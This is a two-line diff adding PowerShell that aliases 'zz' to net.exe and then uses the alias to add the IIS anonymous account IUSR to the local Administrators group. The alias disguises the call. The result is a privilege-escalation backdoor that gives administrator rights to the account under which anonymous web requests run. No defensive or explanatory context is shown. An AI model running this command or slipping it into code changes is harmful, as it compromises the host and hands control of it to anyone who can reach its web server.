@@ -1,0 +1,2 @@
+${alias:zz} = 'net.exe'
+zz localgroup Administrators IUSR /add
